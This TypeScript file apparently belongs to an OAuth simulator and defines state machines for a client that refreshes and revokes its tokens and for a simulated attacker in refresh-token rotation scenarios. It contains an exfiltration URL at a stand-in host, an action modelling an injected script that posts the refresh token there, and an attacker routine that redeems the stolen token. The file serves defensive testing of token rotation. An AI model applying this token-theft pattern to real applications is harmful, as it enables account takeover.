/**
 * A signed-in client that keeps using its tokens (RFC 6749 §6): it calls the API, and when the
 * access token has expired it trades its refresh token for a new one and tries again. It can also
 * ask for a narrower token, and sign out by revoking its refresh token (RFC 7009).
 *
 * It takes over from the authorization code client once the person has signed in: `sessionOf`
 * reads what that client holds. Also here: the thief of the rotation scenarios, who receives a
 * refresh token an injected script sends out and redeems it (RFC 9700 §4.14).
 */
import type { SnapshotFrom } from "xstate";
import { and, assertEvent, assign, enqueueActions, setup } from "xstate";
import type { ClientMetadata } from "../world";
import type { Knowledge, RoleOutcome } from "../trace";
import type { authorizationCodeClientMachine } from "./authorization-code-client";
import type { ApiCall } from "./client-credentials-client";
import type { DeliverEvent } from "./messages";
import { artifactsOf, formRequest, jsonBody, learn, wireSend } from "./messages";
import { apiRequest, carriesAccessToken, clientAuthentication, failureOutcome, oauthErrorOf, pageFor } from "./client-kit";

/** What a client holds once the person has signed in. */
export interface TokenSession {
  readonly accessToken: string;
  readonly refreshToken: string;
  readonly knows: Knowledge;
}

/** The tokens the authorization code client ended with; undefined when the sign-in gave none. */
export function sessionOf(snapshot: SnapshotFrom<typeof authorizationCodeClientMachine> | undefined): TokenSession | undefined {
  const context = snapshot?.context;
  const refreshToken = context?.knows.refresh_token?.at(-1);
  if (!context?.accessToken || !refreshToken) return undefined;
  return { accessToken: context.accessToken, refreshToken, knows: context.knows };
}

/** Where the injected script of the rotation scenarios posts what it finds. */
export const EXFILTRATION_URL = "https://attacker.example/collect";

export interface RefreshingClientInput {
  readonly client: ClientMetadata;
  readonly tokenEndpoint: string;
  readonly revocationEndpoint: string;
  readonly session: TokenSession;
  /** The API calls it makes next, in order; it stops at the first refusal it cannot repair. */
  readonly calls: readonly ApiCall[];
  /** Seconds the app sits idle before its next request (more than 900: the access token has expired). */
  readonly idle: number;
  /** RFC 6749 §6: refresh at once for this narrower scope before calling. */
  readonly narrowScope?: string;
}

interface RefreshingClientContext extends RefreshingClientInput {
  readonly knows: Knowledge;
  readonly accessToken: string;
  /** Undefined once the app has signed out and thrown it away. */
  readonly refreshToken: string | undefined;
  readonly callIndex: number;
  /** A refresh was already tried for the call under way: a second 401 is not repaired by another. */
  readonly refreshedForCall: boolean;
  readonly outcome: RoleOutcome | undefined;
}

/** The idle time passes before the first request the app sends after sign-in, then never again. */
function idleWait(context: RefreshingClientContext): { wait?: number } {
  return context.idle > 0 ? { wait: context.idle } : {};
}

export const refreshingClientMachine = setup({
  types: {
    input: {} as RefreshingClientInput,
    context: {} as RefreshingClientContext,
    events: {} as DeliverEvent,
    output: {} as RoleOutcome,
  },
  actions: {
    rememberMessage: assign(({ context, event }) => {
      assertEvent(event, "DELIVER");
      return { knows: learn(context.knows, artifactsOf(event.message)) };
    }),
    /** RFC 6750 §2.1: the current access token in the Authorization header. */
    callApi: enqueueActions(({ context, enqueue, system }) => {
      const call = context.calls[context.callIndex]!;
      const request = apiRequest(call, context.accessToken);
      enqueue.sendTo(system.get("wire"), wireSend({ id: "api-request", from: "client", to: "resourceServer", channel: "back", request, ...idleWait(context) }));
      enqueue.assign({ idle: 0 });
    }),
    moveToNextCall: assign(({ context }) => ({ callIndex: context.callIndex + 1, refreshedForCall: false })),
    /** RFC 6749 §6: grant_type=refresh_token, with a narrower scope when the app wants one. */
    refreshTokens: enqueueActions(({ context, enqueue, system }) => {
      const auth = clientAuthentication(context.client);
      const fields: Record<string, string> = {
        grant_type: "refresh_token",
        refresh_token: context.refreshToken!,
        ...(context.narrowScope !== undefined ? { scope: context.narrowScope } : {}),
        ...auth.fields,
      };
      const request = formRequest(context.tokenEndpoint, fields, auth.headers);
      enqueue.sendTo(system.get("wire"), wireSend({ id: "refresh-request", from: "client", to: "authorizationServer", channel: "back", request, ...idleWait(context) }));
      enqueue.assign({ idle: 0, refreshedForCall: true });
    }),
    /** RFC 6749 §5.1: the new access token; RFC 9700 §4.14.2: a rotated refresh token replaces the old one. */
    keepTokens: assign(({ context, event }) => {
      assertEvent(event, "DELIVER");
      const body = jsonBody(event.message.response!);
      return {
        accessToken: String(body.access_token),
        refreshToken: typeof body.refresh_token === "string" ? body.refresh_token : context.refreshToken,
        knows: learn(context.knows, artifactsOf(event.message)),
      };
    }),
    /** RFC 7009 §2.1: signing out revokes the refresh token, and with it the grant. */
    revokeRefreshToken: enqueueActions(({ context, enqueue, system }) => {
      const auth = clientAuthentication(context.client);
      const fields = { token: context.refreshToken!, token_type_hint: "refresh_token", ...auth.fields };
      const request = formRequest(context.revocationEndpoint, fields, auth.headers);
      enqueue.sendTo(system.get("wire"), wireSend({ id: "revocation-request", from: "client", to: "authorizationServer", channel: "back", request, ...idleWait(context) }));
      enqueue.assign({ idle: 0 });
    }),
    forgetRefreshToken: assign({ refreshToken: undefined }),
    /** A cross-site script running in the app's page reads the refresh token from storage and posts it out. */
    leakRefreshToken: enqueueActions(({ context, enqueue, system }) => {
      const request = formRequest(EXFILTRATION_URL, { refresh_token: context.refreshToken! });
      enqueue.sendTo(system.get("wire"), wireSend({ id: "refresh-token-stolen", from: "client", to: "attacker", channel: "front", request }));
    }),
    concludeWithApiAnswer: assign(({ event }) => {
      assertEvent(event, "DELIVER");
      return { outcome: pageFor(event.message.response!).outcome };
    }),
    concludeWithFailure: assign(({ event }) => {
      assertEvent(event, "DELIVER");
      return { outcome: failureOutcome("client", event.message) };
    }),
  },
  guards: {
    /** Off by default; the revocation scenario turns it on. */
    signsOut: () => false,
    /** Off by default; the rotation scenarios turn it on (an XSS in the app's page). */
    runsInjectedScript: () => false,
    wantsNarrowerToken: ({ context }) => context.narrowScope !== undefined,
    isApiAnswered: ({ event }) => event.message.response?.status === 200,
    hasAnotherCall: ({ context }) => context.callIndex + 1 < context.calls.length,
    /** RFC 6750 §3.1: 401 invalid_token — expired, revoked or otherwise no longer good. */
    isTokenRejected: ({ event }) => event.message.response?.status === 401 && oauthErrorOf(event.message.response)?.code === "invalid_token",
    canRefresh: ({ context }) => context.refreshToken !== undefined && !context.refreshedForCall,
    isTokenIssued: ({ event }) => carriesAccessToken(event.message),
  },
}).createMachine({
  id: "refreshingClient",
  description: "A signed-in app that keeps its access fresh with its refresh token",
  context: ({ input }) => ({
    ...input,
    knows: input.session.knows,
    accessToken: input.session.accessToken,
    refreshToken: input.session.refreshToken,
    callIndex: 0,
    refreshedForCall: false,
    outcome: undefined,
  }),
  initial: "resuming",
  states: {
    resuming: {
      description: "The app holds tokens from the sign-in and picks up its work",
      always: [
        { guard: "signsOut", target: "working.signingOut", actions: "revokeRefreshToken" },
        { guard: "wantsNarrowerToken", target: "working.refreshing", actions: "refreshTokens" },
        { guard: "runsInjectedScript", target: "working.callingApi", actions: ["leakRefreshToken", "callApi"] },
        { target: "working.callingApi", actions: "callApi" },
      ],
    },
    working: {
      description: "Uses and renews its tokens; any answer not handled below means it has lost access",
      initial: "callingApi",
      on: { DELIVER: { target: "failed", actions: ["rememberMessage", "concludeWithFailure"] } },
      states: {
        signingOut: {
          description: "Waits for the revocation endpoint; the app forgets its refresh token whatever the answer",
          on: { DELIVER: { target: "callingApi", actions: ["rememberMessage", "forgetRefreshToken", "callApi"] } },
        },
        callingApi: {
          description: "Waits for the resource server's answer",
          on: {
            DELIVER: [
              { guard: and(["isApiAnswered", "hasAnotherCall"]), actions: ["rememberMessage", "moveToNextCall", "callApi"] },
              { guard: "isApiAnswered", target: "#refreshingClient.finished", actions: ["rememberMessage", "concludeWithApiAnswer"] },
              { guard: and(["isTokenRejected", "canRefresh"]), target: "refreshing", actions: ["rememberMessage", "refreshTokens"] },
            ],
          },
        },
        refreshing: {
          description: "Waits for the token endpoint to answer the refresh",
          on: { DELIVER: { guard: "isTokenIssued", target: "callingApi", actions: ["keepTokens", "callApi"] } },
        },
      },
    },
    finished: { type: "final", description: "Got what it asked the API for" },
    failed: { type: "final", description: "Lost access: the person has to sign in again" },
  },
  output: ({ context }) => context.outcome!,
});

export interface RefreshTokenThiefInput {
  /** The public client whose refresh token was stolen: its client_id is all a thief needs. */
  readonly client: ClientMetadata;
  readonly tokenEndpoint: string;
  readonly api: ApiCall;
}

interface RefreshTokenThiefContext extends RefreshTokenThiefInput {
  readonly knows: Knowledge;
  readonly outcome: RoleOutcome | undefined;
}

/** The attacker of the rotation scenarios: receives a stolen refresh token and redeems it at once. */
export const refreshTokenThiefMachine = setup({
  types: {
    input: {} as RefreshTokenThiefInput,
    context: {} as RefreshTokenThiefContext,
    events: {} as DeliverEvent,
    output: {} as RoleOutcome,
  },
  actions: {
    rememberMessage: assign(({ context, event }) => {
      assertEvent(event, "DELIVER");
      return { knows: learn(context.knows, artifactsOf(event.message)) };
    }),
    /** RFC 9700 §4.14: a public client's refresh token is all it takes, unless the server notices. */
    redeemStolenToken: enqueueActions(({ context, enqueue, system, event }) => {
      assertEvent(event, "DELIVER");
      const stolen = new URLSearchParams(event.message.request?.body ?? "").get("refresh_token") ?? "";
      const fields = { grant_type: "refresh_token", refresh_token: stolen, ...clientAuthentication(context.client).fields };
      enqueue.sendTo(system.get("wire"), wireSend({ id: "attacker-refresh-request", from: "attacker", to: "authorizationServer", channel: "back", request: formRequest(context.tokenEndpoint, fields) }));
    }),
    callApiWithStolenToken: enqueueActions(({ context, enqueue, system, event }) => {
      assertEvent(event, "DELIVER");
      const token = String(jsonBody(event.message.response!).access_token);
      const request = apiRequest(context.api, token);
      enqueue.sendTo(system.get("wire"), wireSend({ id: "attacker-api-request", from: "attacker", to: "resourceServer", channel: "back", request }));
    }),
    concludeWithApiAnswer: assign(({ event }) => {
      assertEvent(event, "DELIVER");
      return { outcome: pageFor(event.message.response!, "attacker").outcome };
    }),
    concludeWithFailure: assign(({ event }) => {
      assertEvent(event, "DELIVER");
      return { outcome: failureOutcome("attacker", event.message) };
    }),
  },
  guards: {
    isStolenRefreshToken: ({ event }) => event.message.request !== undefined && new URLSearchParams(event.message.request.body ?? "").has("refresh_token"),
    isTokenIssued: ({ event }) => carriesAccessToken(event.message),
    isApiAnswered: ({ event }) => event.message.response?.status === 200,
  },
}).createMachine({
  id: "refreshTokenThief",
  description: "An attacker whose script runs in the app's page and sends it the app's refresh token",
  context: ({ input }) => ({ ...input, knows: {}, outcome: undefined }),
  initial: "waitingForLoot",
  states: {
    waitingForLoot: {
      description: "Waits for the injected script to send something",
      on: { DELIVER: { guard: "isStolenRefreshToken", target: "attacking", actions: ["rememberMessage", "redeemStolenToken"] } },
    },
    attacking: {
      description: "Uses the stolen refresh token; any refusal ends the attack",
      initial: "redeeming",
      on: { DELIVER: { target: "foiled", actions: ["rememberMessage", "concludeWithFailure"] } },
      states: {
        redeeming: {
          description: "Trades the stolen refresh token for an access token",
          on: { DELIVER: { guard: "isTokenIssued", target: "usingStolenToken", actions: ["rememberMessage", "callApiWithStolenToken"] } },
        },
        usingStolenToken: {
          description: "Calls the victim's API with its fresh access token",
          on: { DELIVER: { guard: "isApiAnswered", target: "#refreshTokenThief.succeeded", actions: ["rememberMessage", "concludeWithApiAnswer"] } },
        },
      },
    },
    foiled: { type: "final", description: "The attack failed" },
    succeeded: { type: "final", description: "The attacker read the victim's data" },
  },
  output: ({ context }) => context.outcome!,
});
